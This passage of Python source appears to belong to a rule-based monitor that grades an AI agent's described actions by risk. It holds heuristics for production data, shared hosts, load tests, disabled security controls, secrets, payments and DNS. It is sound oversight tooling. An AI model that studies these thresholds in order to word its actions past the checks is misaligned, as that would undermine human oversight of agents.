                and not frame.words & (_SHARED_MARKS | WIDE) and not scope:
            # "running the migration that drops legacy_discount against the local dev database": a schema
            # change in a store on this machine, the agent's own, rebuilt by the same migrations and seeds (a
            # whole table or database dropped there keeps its pause: its rows go with it)
            level = L.REVERSIBLE
            why.append(f"a schema change in a local database ({', '.join(ctx.nonprod)}): the agent's own "
                       "copy, rebuilt from its migrations and seeds")
            rule = "hint.local-store"
        elif act is Act.DESTROY and level > L.DESTRUCTIVE and not kinds & {Obj.BACKUP, Obj.REPO, Obj.SECRET}:
            level = L.DESTRUCTIVE
            why.append(f"capped: only a non-production environment ({', '.join(ctx.nonprod)})")
        elif act is Act.DISRUPT and kinds <= {Obj.INFRA, Obj.PROCESS} and kinds:
            level = L.REVERSIBLE
            why.append(f"a non-production environment ({', '.join(ctx.nonprod)})")
    load = _load_on_service(act, frame) if level < L.DESTRUCTIVE else ""
    if load:
        # "a 5,000 requests-per-second load test against the staging API": everyone using that service
        # gets its slowness or its outage while the test runs
        level = L.DESTRUCTIVE
        why.append(f"puts load on a service others use ({load})")
    if level < L.DESTRUCTIVE and act in (Act.CHANGE, Act.DISRUPT, Act.EXECUTE) and (
            _interrupts_shared_host(verb, frame) or (frame.words & _KERNEL_LEVEL and verb not in _LOOKING)):
        # "restarting postgresql on the shared build host", "loading a kernel module on the training box":
        # the others on that machine lose their jobs, or everything on it runs on the changed kernel
        level = L.DESTRUCTIVE
        marks = ", ".join(sorted(frame.words & (_SHARED_MARKS | _KERNEL_LEVEL | _GATEWAYS | _NETWORK_STACK)))
        why.append(f"interrupts or changes a machine others run on ({marks})")
    if level >= L.DESTRUCTIVE and act in (Act.DESTROY, Act.DISRUPT, Act.EXTERNAL):
        rule = f"hint.{act.value}"
    return level, "; ".join(why), rule, irrev


# Controls whose switching off stays inside what it narrows to: a host's mandatory access control, a web
# firewall's rules, a login's second factor. A network firewall, the audit trail, endpoint protection and
# the agent's own guard are not: off anywhere, they stop (the rubric's "disabling firewalls or audit logs")
_NARROWABLE_CONTROLS = words("selinux apparmor seccomp waf mfa 2fa sso")
_ACCOUNT_NOUNS = words("account user bot service-account")
_ACCOUNT_KINDS = _ACCOUNT_NOUNS | words("service machine shared human")
_PRIVILEGED_ACCOUNTS = words("admin admins administrator root owner owners superuser")


def _narrowed_control(frame: Frame, controls: Sequence[str], nonprod: bool, wide: bool) -> str:
    """How a switched-off security control is narrowed ("on a non-production environment", "for one
    account (svc-reports)"), or "" when it is not, or is one that no narrowing makes cheap."""
    if wide or not {c.lower() for c in controls} <= _NARROWABLE_CONTROLS:
        return ""
    if frame.words & (_PRIVILEGED_ACCOUNTS | _ORGANISATION | _EVERYTHING):
        return ""
    if nonprod:
        return "on a non-production environment"
    order = frame.order
    mailbox = [w for w in order if _EMAIL.match(w)]
    if len(mailbox) == 1:
        return f"for one account ({mailbox[0]})"  # "resetting MFA for jane@acme.com"
    for j, w in enumerate(order):
        if w in _ACCOUNT_NOUNS:
            # "the svc-reports account", "the deploy-bot service account", "user 44119"
            beside = [*order[max(0, j - 2):j], *order[j + 1:j + 2]]
            named = [u for u in beside if re.search(r"[\d_-]", u) and u not in _ACCOUNT_NOUNS]
            if named:
                return f"for one account ({named[0]})"
            opened = next((k for k in range(j - 1, max(-1, j - 5), -1) if order[k] in ("the", "a")), None)
            between = [] if opened is None else [u for u in order[opened + 1:j] if u not in _ACCOUNT_KINDS]
            if between:  # "the deploy-bot service account" (its name split at the hyphen)
                return f"for one account ({' '.join(between)})"
    return ""


# One person a secret may be handed to; and the places where more than one reads what is put there
_ONE_PERSON = words("contractor colleague coworker co-worker teammate engineer developer intern hire "
                    "consultant newcomer")
_DIRECT = words("dm dms direct-message privately")
_MANY_READERS = words("channel channels issue issues ticket pr description forum thread comment comments "
                      "wiki gist pastebin confluence jira notion stackoverflow webhook repo repository "
                      "readme everyone all team group public list logs log")


def _one_person(frame: Frame, ctx: Context) -> str:
    """The one person a secret goes to ("the new contractor", "@maria"), when nothing else in the clause
    is a place several people read or a destination outside the company; "" otherwise."""
    if ctx.external_dest or frame.public or frame.words & _MANY_READERS:
        return ""
    people = [w for w in frame.order
              if w in _ONE_PERSON or (w.startswith("@") and len(w) > 1 and "." not in w)]
    if not people and frame.words & _DIRECT:
        people = ["a direct message"]  # "with Priya over a Slack DM": one reader, whoever it is
    return ", ".join(dict.fromkeys(people))


# Verbs that lose what they act on, whatever it is called: said of everything in production, a wipe.
# (terminate, kill, stop: connections and processes end, nothing kept is lost)
_LOSING = words("destroy delete erase wipe nuke purge obliterate drop remove tear teardown zero empty")


def _production_named(frame: Frame, ctx: Context) -> list[str]:
    """The names in the clause that carry a production marker as a part (`app_prod`,
    `billing_production`): a named thing in production, not the bare word "prod" for a place."""
    return [p for p in ctx.prod if p.lower() in frame.order and p.lower() not in MARKERS.prod]


_INDEX_WORDS = words("index indexes indices")
_RELATIONAL = words("database db postgres postgresql psql mysql mariadb sqlite sqlite3 table tables column "
                    "sql")
_SEARCH_STORES = words("search elasticsearch opensearch es solr algolia meilisearch typesense pinecone "
                       "vector weaviate qdrant milvus lucene kibana")


def _database_index(frame: Frame, objs: dict[Obj, list[str]]) -> bool:
    """The clause acts on indexes only, of a relational database (the word "database", a table, or an
    `idx_` name), and names no search engine, whose index is the stored documents themselves."""
    return (all(n.lower() in _INDEX_WORDS for n in objs.get(Obj.DATA, [])) and bool(objs.get(Obj.DATA))
            and bool(frame.words & _RELATIONAL or any(w.startswith(("idx_", "ix_")) for w in frame.order))
            and not frame.words & _SEARCH_STORES)


def _one_branch(frame: Frame, objs: dict[Obj, list[str]]) -> bool:
    """The clause acts on one branch and nothing else: a path-like name counts only right after
    "branch" ("the local branch fix/typo"), not "the src/ folder" beside it; "branches" are several."""
    order = frame.order
    named = {order[j + 1] for j, w in enumerate(order[:-1]) if w == "branch"}
    return (set(objs) <= {Obj.BRANCH, Obj.CONTAINER} and "branches" not in order
            and all(n.lower() in named for n in objs.get(Obj.CONTAINER, [])))


_REMOTE_PLACES = words("remote remotes origin upstream github gitlab bitbucket shared")
_ELSEWHERE_BRANCH = _REMOTE_PLACES | words("protected main master release trunk develop")
_REACHED_LOCALLY = words("localhost 127.0.0.1 self-signed local local-only loopback dev development")
_MAILBOXES = words("inbox inboxes mailbox mailboxes")
_FORWARDING = words("forward redirect auto-forward autoforward")


# Hosted business systems: the company's records live there and nowhere else (no copy is "staging"
# unless the hint says sandbox).
_HOSTED_RECORDS = words("salesforce hubspot zendesk freshdesk intercom quickbooks xero netsuite sage "
                        "mailchimp klaviyo shopify workday bamboohr gusto airtable pipedrive zoho helpdesk "
                        "crm ledger sharepoint confluence notion jira")
_SHARED = words("shared team company")
_DRIVES = words("drive drives folder folders sharepoint dropbox")
_MASS = words("all every entire whole everything everyone full")


def _mass(frame: Frame) -> bool:
    """All of something, or a count in the thousands: "every Account record", "all 120k contacts" (a
    recursive flag or a bulk API says how, not how much). What a filter picks out of them ("the 312
    contacts tagged 'bounced'", "all contacts matching the spam rule") is a selection, not all."""
    unfiltered = any(w.startswith(("no ", "without ")) for w in frame.scope_all)  # "with no filter"
    if not unfiltered and (frame.words & _FILTERING or frame.words & _SELECTING):
        return False
    return bool(unfiltered or set(frame.scope_all) & _MASS
                or any(_count(n) >= 1000 for n in frame.bulk_numbers))


_FILTERING = words("tagged labelled labeled matching marked flagged filtered where whose")


def _count(bulk: str) -> int:
    """ "3,400 tickets" -> 3400."""
    try:
        return int(bulk.split()[0].replace(",", "").replace("_", ""))
    except ValueError:
        return 0


def _live_records(frame: Frame, ctx: Context) -> list[str]:
    """The words saying that what a clause reaches is a live system of record or a store a team shares:
    a hosted business system named anywhere in the hint ("quickbooks: deleting ..."), or a drive or
    folder a team shares named in the clause (a shared calendar's events are not kept work)."""
    shared = frame.words & _SHARED if frame.words & _DRIVES else set()
    return sorted(set(ctx.hosted) | shared)


_SHARED_DRIVES = frozenset({"shared drive", "team drive", "shared drives", "team drives"})


def _shared_drive_itself(frame: Frame, objs: Mapping[Obj, list[str]]) -> str:
    """The drive a team shares named as what is acted on, not as where a file is ("the report from the
    shared drive"): the names that say so, or ""."""
    if Obj.DATA in frame.located_only:
        return ""
    return ", ".join(n for n in objs.get(Obj.DATA, ()) if n.lower() in _SHARED_DRIVES)


_BINNING = words("move send put drag throw")
_TRASH = words("trash bin wastebasket recycle")


def _into_trash(tokens: Sequence[Tok], i: int) -> bool:
    """ "moving X to (the) trash", "sending it to the recycle bin": a move whose destination is a bin."""
    for j in range(i + 1, min(len(tokens), i + 16)):
        if tokens[j].kind == "punct":
            return False
        if tokens[j].low in ("to", "into"):
            k = j + 1 + (j + 1 < len(tokens) and tokens[j + 1].low in ("the", "a"))
            return k < len(tokens) and tokens[k].low in _TRASH
    return False


_CARRYING = words("with attached attach attaching containing including include includes carrying")
# Who holds an account inside a provider's organisation: not the organisation's own account (an
# organisation's "member account", in AWS Organizations, is a whole cloud account of its own)
_ACCOUNT_HOLDERS = words("user contractor employee intern guest bot service personal his her their "
                         "customer customer's user's contractor's")


def _provider_account(tokens: Sequence[Tok], noun: str) -> bool:
    """Whether `noun` names a provider's own account with the providers the clause names ("the Azure
    subscription", not "the Stripe subscription sub_1PqR")."""
    only = ACCOUNT_NOUN_PROVIDERS.get(noun)
    return only is None or any(t.low in only for t in tokens)


def _held_account(tokens: Sequence[Tok], i: int) -> bool:
    """ "the contractor (Slack) account u123", "a service account", "the account of bob@acme.com": one
    person's or one program's login inside a provider's organisation, not the organisation's own account."""
    j = i - 1
    while j >= 0 and (tokens[j].low in CLOUD_PROVIDERS or tokens[j].low == "member"):
        j -= 1
    if j >= 0 and tokens[j].low in _ACCOUNT_HOLDERS:
        return True
    after = [t.low for t in tokens[i + 1: i + 3]]
    return len(after) == 2 and after[0] in ("of", "for") and _EMAIL.match(after[1]) is not None



_MEMBER_WORDS = words("user users member members contractor contractors collaborator collaborators employee "
                      "employees guest guests seat seats")


def _member_removed_from(tokens: Sequence[Tok], i: int) -> bool:
    """ "removing former contractor @jdoe from the GitHub org": the organisation is where one named person
    (an @handle, a member) is taken out of; it stays. "Removing everyone from the org" names no one."""
    before = [t.low for t in tokens[max(0, i - 3):i]]
    if "from" not in before:
        return False
    head = tokens[:i - len(before) + before.index("from")]
    # "the AWS member account": a kind of account, which is what is closed, not a person
    return any(t.raw.startswith("@") or (t.low in _MEMBER_WORDS and (
        j + 1 == len(head) or head[j + 1].lem not in CLOUD_ACCOUNT_NOUNS)) for j, t in enumerate(head))


_REPOSITORY_PLACES = words("repo repo's repository repository's")
_NAMED_ROLES = words("cluster-admin system:masters")  # roles known by name, without the word "role"
_PRINCIPALS = words("user users serviceaccount serviceaccounts identity identities principal principals "
                    "member members employee employees")


def _every_principal(frame: Frame) -> set[str]:
    """ "every service account", "all users": a role granted to all principals at once is granted to
    everybody who is, or will later be, one of them."""
    # "every service account" (but not "admin on every AWS account": the places, not who is granted)
    order = " ".join(frame.order).replace("service account", "serviceaccount").split()
    every = {f"{w} {nxt}" for w, nxt in itertools.pairwise(order) if w in _MASS and nxt in _PRINCIPALS}
    if {"default"} <= set(order) and set(order) & _SERVICE_ACCOUNTS and _every_namespace(order):
        # "the default service account in every namespace": the identity every pod runs as unless it
        # names another, in all of them: every workload of the cluster, present and future
        every.add("the default service account of every namespace")
    return every


_SERVICE_ACCOUNTS = words("serviceaccount serviceaccounts")
_NAMESPACES = words("namespace namespaces")


def _every_namespace(order: Sequence[str]) -> bool:
    """ "in every namespace", "across all namespaces", `--all-namespaces`, `-A`."""
    return "--all-namespaces" in order or any(
        w in _MASS and nxt in _NAMESPACES for w, nxt in itertools.pairwise(order))
# Who a send reaches when it goes to all of them: a list, not a person
_RECIPIENTS = words("customer customers user users subscriber subscribers contact contacts member members "
                    "recipient recipients follower followers audience list everyone")


def _people_dataset_exposed(act: Act, verb: str, frame: Frame, ctx: Context,
                            objs: Mapping[Obj, list[str]]) -> str:
    """Why a clause puts a dataset about people where anyone reads it ("" when it does not): published
    or placed in public, or sent to a whole audience at once. The dataset is what is carried (a dump,
    an export, a table, a customers' folder), not the audience it goes to."""
    # to a whole audience, what is carried is said so ("with the export attached"); "texting every phone
    # number in the users table" names where the recipients come from, not what they receive
    audience = sorted(frame.words & _RECIPIENTS) if (
        _mass(frame) and act is Act.EXTERNAL and frame.words & _CARRYING) else []
    public = (act is Act.EXTERNAL and (verb in PUBLIC_VERBS or frame.public)) or (
        verb in PLACING and frame.public)
    if not (public or audience):
        return ""
    carried = {n.lower() for o in (Obj.DATA, Obj.BACKUP) for n in objs.get(o, ())} - _RECIPIENTS
    folders = {n.lower().rstrip("/") for n in objs.get(Obj.CONTAINER, ())}
    people_folders = {f for f in folders if f in _PEOPLE | MARKERS.customer}  # "the customers/ folder"
    datasets = (carried | frame.words) & WHOLE_DATASETS | people_folders
    about_people = frame.words & (_PEOPLE | MARKERS.customer) or ctx.customer
    if not (datasets and about_people and (carried or folders)):
        return ""
    where = ", ".join(audience) if audience else ", ".join(frame.public) or verb
    return (f"puts a dataset about people ({', '.join(sorted(datasets))}) in front of "
            f"{'a whole audience' if audience else 'anyone'} ({where})")


def _mailbox_forwarded(verb: str, frame: Frame, scope: list[str]) -> str:
    """A whole mailbox forwarded: an inbox or a mailbox named, or everything in an address."""
    if verb not in _FORWARDING:
        return ""
    boxes = sorted(frame.words & _MAILBOXES)
    if boxes:
        return ", ".join(boxes)
    addresses = [w for w in frame.order if _EMAIL.match(w)]
    return f"everything in {addresses[0]}" if scope and addresses else ""


def _merged_records(frame: Frame) -> bool:
    """What "merge" takes first is people's records (accounts, customers), not work items or code."""
    order = frame.order
    start = next((i for i, w in enumerate(order) if lemma(w) == "merge"), 0)
    head = next((w for w in order[start + 1: start + 6] if w in _PEOPLES_RECORDS | _GIT_THINGS), "")
    return head in _PEOPLES_RECORDS


_PEOPLES_RECORDS = words("account accounts customer customers user users profile profiles contact contacts "
                         "organization organisation org tenant tenants")
# work items and code are merged every day; it is people's records whose merge is hard to undo
_GIT_THINGS = words("branch branches pr prs request main master trunk commit commits ticket tickets issue "
                    "issues incident incidents")
_AUDIENCE = words("customer customers user users traffic tenant tenants everyone subscriber subscribers "
                   "visitor visitors site")
_WHOLE_REACH = words("all every whole entire 100% site-wide sitewide")
_LIVE_CHANGES = words("flip toggle ramp roll enable switch turn release deploy ship launch migrate execute "
                      "run apply push set change update fail")
_AUTHORED_KINDS = frozenset({Obj.TEXT, Obj.CODE_PART, Obj.CODE, Obj.CONTAINER})


def _reaches_everyone(act: Act, verb: str, frame: Frame, kinds: set[Obj]) -> str:
    """A live change aimed at every customer, user or the whole site ("to 100% for all customers"), as
    the words that say so; a document or code written for everyone is no live change."""
    if act not in (Act.CHANGE, Act.EXECUTE) or verb.split()[0] not in _LIVE_CHANGES:
        return ""
    if kinds & _AUTHORED_KINDS:
        return ""
    audience = frame.words & _AUDIENCE
    reach = frame.words & _WHOLE_REACH
    return ", ".join(sorted(audience | reach)) if audience and reach else ""


def _moved_into_scratch(verb: str, frame: Frame) -> str:
    """The kept things (not scratch, not build output) a move takes into a scratch directory."""
    if verb not in ("move", "mv") or not frame.paths or frame.paths[-1].path_class != "scratch":
        return ""  # the destination is named last: "moving X into /tmp"
    kept = [t.raw for t in frame.paths[:-1]
            if t.path_class not in SCRATCH_CLASSES | {"regenerable"} and t.obj is not Obj.EPHEMERAL]
    return ", ".join(kept)


_SHARED_MARKS = words("shared team's everyone's common")
_MACHINES = words("host box server machine node vm instance runner agent workstation rig")
_INTERRUPTING = words("restart reload bounce reboot load unload install upgrade stop kill cycle")
_KERNEL_LEVEL = words("kernel swapfile swap sysctl modprobe insmod rmmod grub bootloader initramfs")
_LOOKING = words("read check inspect view list show")


_LOAD_PAIRS = {("load", "test"), ("stress", "test"), ("load", "tests"), ("stress", "tests"), ("soak", "test"),
               ("load", "testing"), ("stress", "testing")}
_RATES = re.compile(r"^(?:requests?|req|rps|qps|rpm)(?:[-/]per[-/]|/)?(?:second|sec|s|minute|min)?$")
_LOAD_TOOLS = words("k6 locust wrk hey vegeta ab jmeter gatling artillery siege hping3 flood")
_LOCAL_TARGETS = words("localhost 127.0.0.1 local laptop")


def _load_on_service(act: Act, frame: Frame) -> str:
    """What names a load run against a service ("a load test", a rate such as "5,000 rps", a load tool),
    when the service is not on the agent's own machine; "" otherwise. Writing the test is not running it."""
    if act is not Act.EXECUTE or frame.words & _LOCAL_TARGETS:
        return ""
    if any(_is_local_word(w) for w in frame.order):
        return ""
    order = frame.order
    named = [f"{a} {b}" for a, b in itertools.pairwise(order) if (a, b) in _LOAD_PAIRS]
    named += [w for w in order if _RATES.match(w) or w in _LOAD_TOOLS]
    return ", ".join(named) if named and "against" in order else ""


# Making an artifact in the workspace: what it is made for is not where it is made
_MADE_HERE = words("build render template generate compile bundle minify")
# A file kept where it is written: "saving aggregates to reports/churn.csv" after a read on production
_SAVED_HERE = words("save write store output")
# What a run on production only reads ("the dedupe report", "the read-only churn query"), and what makes a
# run write whatever else it is called ("the report cleanup job")
_READ_RUNS = words("report reports read-only readonly")
_WRITING_RUNS = words("job jobs migration migrations script scripts backfill cleanup clean-up fix repair "
                      "update delete purge merge apply write writes import sync")
# An ordinary push ("git push origin release/2.3"), and what makes a push more than commits added on top
_GIT_REMOTES = words("origin upstream")
_PUSH_BEYOND_A_BRANCH = words("main master trunk prod production live --tags tags tag --delete delete "
                              "--mirror --all all every --force -f --force-with-lease --prune")
# Parts of a schema a migration drops and the same migrations rebuild ("the legacy_discount column")
_SCHEMA_PARTS = words("column columns field fields index indexes constraint constraints view views trigger "
                      "triggers")


def _schema_part_only(names: set[str]) -> bool:
    """A part of a schema named ("the legacy_discount column"), beside at most the database it is in."""
    return bool(names & _SCHEMA_PARTS) and names <= _SCHEMA_PARTS | {"database", "db"}
_SAVED_KINDS = frozenset({Obj.CONTAINER, Obj.EPHEMERAL, Obj.TEXT})  # a file, build output, a document
# a file named relative to the workspace (`reports/churn.csv`, `out.json`): not a host, not an absolute path
_WORKSPACE_FILE = re.compile(r"(?:\./)?[\w-]+(?:/[\w.-]+)*\.[A-Za-z]\w{0,5}")
_MADE_HERE_KINDS = frozenset({Obj.CODE, Obj.CODE_PART, Obj.TEXT, Obj.EPHEMERAL, Obj.CONTAINER, Obj.INFRA})


def _is_local_word(word: str) -> bool:
    """`localhost:8080`, `127.0.0.1:3000`: an address on this machine, with its port."""
    return word.startswith(("localhost", "127.", "[::1]"))


_GATEWAYS = words("bastion jumpbox jumphost gateway")
_HOST_NAME = re.compile(r"^[a-z]+(?:-[a-z]+)*-\d+$")  # every session to what is behind goes through it
_NETWORK_STACK = words("networking network network-manager networkmanager networkd sshd interface interfaces "
                       "nic eth0 ens5")
_OWN_MACHINE = words("local localhost laptop my")


def _interrupts_shared_host(verb: str, frame: Frame) -> bool:
    """A service restarted, stopped or installed on a machine the hint calls shared, or a gateway: others
    lose work. The network stack restarted on a machine that is not the agent's own cuts every session
    to it, the agent's too, and it may not come back without a console."""
    if verb.split()[0] not in _INTERRUPTING:
        return False
    shared = bool(frame.words & (_SHARED_MARKS | _GATEWAYS))
    # a machine named by its host name ("on db-2", "web-3") is one too
    machine = bool(frame.words & (_MACHINES | _GATEWAYS)) or any(_HOST_NAME.match(w) for w in frame.order)
    network = bool(frame.words & _NETWORK_STACK) and not frame.words & _OWN_MACHINE
    return machine and (shared or network)


_INTO = words("to into onto over")
_MIRRORING = words("sync resync mirror rsync")  # the named side is made to match: it is written


_READ_HEADS = words("query queries report reports dashboard dashboards summary summaries stats metrics count "
                    "counts select")


def _customers_addressed(frame: Frame, ctx: Context) -> bool:
    """ "a public comment telling the customers the fix is live": every customer the hint names is
    who is told (right after the telling verb), not information about them that is published or sent."""
    order = [w for w in frame.order if w not in DETERMINERS]
    told = {nxt for w, nxt in itertools.pairwise(order) if lemma(w) in TELL_VERBS}
    return bool(ctx.customer) and {c.lower() for c in ctx.customer} <= told | _given_to(frame.order)


def _after_to(order: list[str], j: int) -> bool:
    """The word at j ends the noun phrase right after "to" ("to the customer with a link", "to the
    customer."); in "to the customer list" it begins a longer noun, the thing, not who receives it."""
    i = j - 1
    while i > 0 and order[i] in DETERMINERS:
        i -= 1
    return order[i] == "to" and (j + 1 == len(order) or order[j + 1] in _PHRASE_ENDS)


_PHRASE_ENDS = DETERMINERS | words("with about for and or on in at that who which so to by from via")
# Verbs that take the one given to first and the thing given second: "sending the customer the link"
_GIVING_VERBS = words("send email e-mail mail forward give hand text message dm")


def _given_to(order: list[str]) -> set[str]:
    """ "sending the customer the link to the public docs": a giving verb, one noun, then a determiner
    opening a second noun phrase; the first noun is who receives, the second what is sent. "Sending the
    customer records to the vendor" has no second determiner: the customer's records are what is sent."""
    given: set[str] = set()
    if any(lemma(w) in _GIVING_VERBS | TELL_VERBS for w in order):
        # "replying to the customer with a link", "sending the link to the customer": who it goes to
        given |= {order[j] for j in range(1, len(order)) if _after_to(order, j)}
    for i, w in enumerate(order):
        if lemma(w) not in _GIVING_VERBS:
            continue
        j = i + 1
        while j < len(order) and order[j] in DETERMINERS:
            j += 1
        if j + 1 < len(order) and order[j + 1] in DETERMINERS:
            given.add(order[j])
    return given


_PAYING_OUT = words("payout payouts transfer transfers wire wires withdrawal withdrawals")
# A payee learned from a message, not one on file: "the new bank account from the email", "the account
# someone pasted in the issue"
_NEW_PAYEE = words("new email emailed pasted someone unverified changed")


def _unverified_payee(frame: Frame, ctx: Context) -> str:
    """The words saying the money goes to a payee nobody has checked ("" when none do)."""
    return ", ".join([*ctx.untrusted_source, *ctx.external_dest, *sorted(frame.words & _NEW_PAYEE)])


def _about_payments(frame: Frame) -> bool:
    """ "running the slow invoice query": the payment word names what a query or a report is about;
    running it reads the payments, it does not make one."""
    return any(OBJ_CLASS.get(lemma(a)) is Obj.PAYMENT and b in _READ_HEADS
               for a, b in itertools.pairwise(frame.order))


# What a document about prices or payments is called: it is read, sent or answered with, and pays nobody
_PRICE_DOCUMENTS = words("sheet sheets spreadsheet spreadsheets doc docs document documents deck decks pdf "
                         "list lists memo one-pager table tables")


def _priced_document(frame: Frame) -> bool:
    """ "the internal pricing sheet", "the rate card pdf": the payment word names what a document is about."""
    return any(OBJ_CLASS.get(lemma(a)) is Obj.PAYMENT and b in _PRICE_DOCUMENTS
               for a, b in itertools.pairwise(frame.order))


# Words saying what is placed names no one: records stripped of who they are about, or only their shape
_DE_IDENTIFIED = re.compile(
    r"\b(?:anonymi[sz]ed|de-?identified|pseudonymi[sz]ed|aggregated?|redacted)\b"
    r"|\b(?:no|without)\s+(?:names|rows|records|pii|personal\s+data)\b|\bcolumn\s+names\s+only\b"
    r"|\bschema(?:-only|\s+only)\b")
_TEAM_DOCUMENTS = words("doc docs document wiki page confluence notion spreadsheet sheet")


def _de_identified(frame: Frame) -> str:
    """The words saying what the clause places names no one ("anonymized", "no names", "column names
    only"), or "" when it does not say so."""
    found = _DE_IDENTIFIED.search(" ".join(frame.order))
    return found.group(0) if found else ""


def _into_document(frame: Frame) -> bool:
    """ "into the comp-review doc", "to the wiki": what is placed lands in a document, not in front of an
    audience."""
    order = frame.order
    return any(w in _INTO | {"in"} and any(u.rsplit("-", 1)[-1] in _TEAM_DOCUMENTS
                                           for u in order[i + 1:i + 4]) for i, w in enumerate(order))


def _on_read_replica(frame: Frame) -> bool:
    """The place named is a replica (`read replica`, `prod-replica`), not the primary behind it."""
    names = frame.words | {s for t in frame.paths for s in t.subs}
    return bool(names & {"replica", "replicas"}) and not names & {"primary", "master", "writer"}


def _into_production(frame: Frame, verb: str, prod: list[str]) -> bool:
    """"Copy the config files to the prod servers", "sync payments-prod with prune": production is
    where the copy lands (named after "to"/"into", or the side a sync makes match), not where it is
    read from ("the logs from the prod servers")."""
    marks = {p.lower() for p in prod}
    order = frame.order
    hits = [i for i, w in enumerate(order) if w in marks]
    if not hits:
        return False
    if any("from" in order[max(0, i - 2) : i] for i in hits):
        return False
    if verb in _MIRRORING:
        return True
    first_into = next((i for i, w in enumerate(order) if w in _INTO), None)
    return first_into is not None and any(i > first_into for i in hits)


_REAL_VALUE = words("real actual live production prod value values")
_REAL_WORDS = words("real actual genuine live")  # said of a secret: its value, not a placeholder
RESPAWNED = words("pod pods replica replicas")
REVIEW_PLACES = words("pr prs mr")  # pull/merge request: the team's review thread


def _review_thread(frame: Frame) -> bool:
    """The clause names a pull or merge request ("the PR", "the merge request"); a request on its own
    ("request bodies", "a support request") is no review thread."""
    order = frame.order
    return bool(frame.words & REVIEW_PLACES) or any(
        a in ("pull", "merge") and b in ("request", "requests") for a, b in itertools.pairwise(order))
_ANSWERING = words("reply respond")
_TABLE_FILES = words("csv spreadsheet sheet xlsx export exports")
# Verbs that change an amount, a price or who is paid (not fetching, drafting or coding about them)
_DRAFTING = words("create make prepare")
_DRAFT_WORDS = words("draft drafts unsent unsubmitted")


def _drafted_payment(frame: Frame) -> bool:
    """The clause's payment is itself a draft: "a draft invoice", "the PO as a draft", not "the payment run
    from the draft batch" (the draft is where it comes from, the run pays)."""
    order = [w.lower().strip(".,;:") for w in frame.order]
    paid = {w.lower().strip(".,;:") for w in frame.objects.get(Obj.PAYMENT, [])}
    for i, w in enumerate(order):
        if w not in _DRAFT_WORDS:
            continue
        if set(order[i + 1: i + 3]) & paid:  # "a draft invoice", "a draft purchase order"
            return True
        if order[max(0, i - 2): i] in (["as", "a"], ["in"]) or order[i - 1: i] == ["in"]:  # "as a draft"
            return True
    return False


_MONEY_CHANGES = words("issue apply update change raise lower set cut grant give extend bump trigger "
                       "cancel void adjust waive reduce increase")
_PUSHING = words("push publish ship upload submit")  # what a branch or a change is sent out with
# Audiences outside the team, and the desks customers write to.
_COMMITTING = words("submit approve apply confirm finalize finalise execute release post")
_PREVIEWS = words("preview previews draft dry-run")
_CONTROL_OF = words("ownership owner owners control admin administrator")  # who holds a thing, not a copy
_HANDING_OVER = words("transfer hand give assign reassign move")
_OUTSIDE_AUDIENCE = words("vendor vendors partner partners supplier suppliers agency press reporters "
                          "zendesk intercom freshdesk helpscout front email mail inbox")
_CARRIED = frozenset({Obj.SECRET, Obj.PAYMENT, Obj.DATA, Obj.BACKUP})  # what an answer must not carry
_PLACES_ON_THE_NET = words("host hosts ip ips address addresses destination destinations domain domains")
_RECORD_TYPES = words("a aaaa cname mx txt ns srv caa dns")
_REPOINTING = words("point repoint")
_DOMAIN_NAME = re.compile(r"^(?:[a-z0-9-]+\.)+(?:com|net|org|io|dev|app|co|ai|cloud|tech|us|eu|uk|de)$")


def _dns_records(frame: Frame) -> list[str]:
    """"the A record", "the api CNAME": a DNS record says where the public is sent."""
    order = frame.order
    repointed = any(v in _REPOINTING for _, v in frame.verbs)
    return [f"{w} record" for i, (w, nxt) in enumerate(itertools.pairwise(order))
            if nxt in ("record", "records") and w in _RECORD_TYPES
            and (w != "a" or (i and (order[i - 1] in DETERMINERS or "." in order[i - 1])))  # not "a record"
            ] + (["cname"] if "cname" in order else []) + [
        # "pointing staging.acme.com at my laptop": a name the public looks up, sent somewhere else
        w for w in order if repointed and _DOMAIN_NAME.match(w)]


_TARGET_WORDS = words("at to onto toward towards")


def _nonprod_name_and_target(frame: Frame) -> bool:
    """Every domain name the clause changes is a non-production one (a label such as `staging`), and what it
    is pointed at is named as non-production too: no name production traffic uses is moved."""
    order = frame.order
    names = [w for w in order if _DOMAIN_NAME.match(w)]
    if not names or not all(set(re.split(r"[.-]", w)) & MARKERS.nonprod for w in names):
        return False
    targets = [j for j, w in enumerate(order) if w in _TARGET_WORDS]
    return bool(targets) and bool(set(order[targets[-1] + 1:]) & MARKERS.nonprod)


def _from_template(frame: Frame) -> bool:
    """The clause copies a template (`.env.example`) and the only secret files it names come after it,
    as the destination; copying a real secrets file over a template (`.env` to `.env.example`) is not."""
    paths = frame.paths
    first = next((i for i, t in enumerate(paths) if t.low.endswith(_TEMPLATE_SUFFIXES)), None)
    if first is None or frame.words & SHARED_PLACES:
        return False
    secret_at = [i for i, t in enumerate(paths) if t.obj is Obj.SECRET]
    return bool(secret_at) and all(i > first for i in secret_at)


PLACEHOLDERS = words("placeholder placeholders dummy fake example sample redacted xxx changeme")
_TEMPLATE_SUFFIXES = (".example", ".sample", ".template", ".dist", ".tmpl")
PROTECTING = words("mask redact obfuscate censor encrypt hide") | PROTECTING_ACTS
SCHEMA_WORDS = words("schema schema-only --schema-only ddl structure --no-data")
SCHEMA_ONLY_FLAGS = words("schema-only --schema-only --no-data structure-only")


_POINTERS = words("link links url urls")
# links that carry access themselves, and what must not travel inside a link
_PLACING_WORDS = words("in into on to at for and")
# a link to records about people, or a whole copy of a store, is read as the records
_LINKED_RECORDS = words("customer customers user users patient patients employee employees member members "
                        "personal pii phi payroll salary salaries medical dump dumps export exports backup "
                        "backups")
_ACCESS_LINKS = words("presigned pre-signed signed share sharing magic login reset invite access sas anyone "
                      "token tokens password passwords credential credentials key keys")


def _link_in_team_channel(frame: Frame, ctx: Context, kinds: set[Obj]) -> bool:
    """What is posted is a link, and where it goes is a named team channel (not a company-wide or shared
    one): nothing is carried but the pointer. Where the link leads (a wiki page, a public issue, a
    dashboard) is read by the people who open it, with their own access."""
    order = frame.order
    links = [i for i, w in enumerate(order) if w in _POINTERS]
    # "the public upstream issue link": public says where the link leads, not where it is posted
    said_of_link = {i for i, w in enumerate(order) if w == "public"
                    and any(j > i and not set(order[i:j]) & _PLACING_WORDS for j in links)}
    elsewhere = [w for w in ctx.external_dest if w != "public"] or [
        i for i, w in enumerate(order) if w == "public" and i not in said_of_link]
    return (bool(links) and not elsewhere and not frame.words & (_ACCESS_LINKS | _LINKED_RECORDS)
            and not kinds & {Obj.SECRET, Obj.PAYMENT, Obj.BACKUP} and not ctx.customer
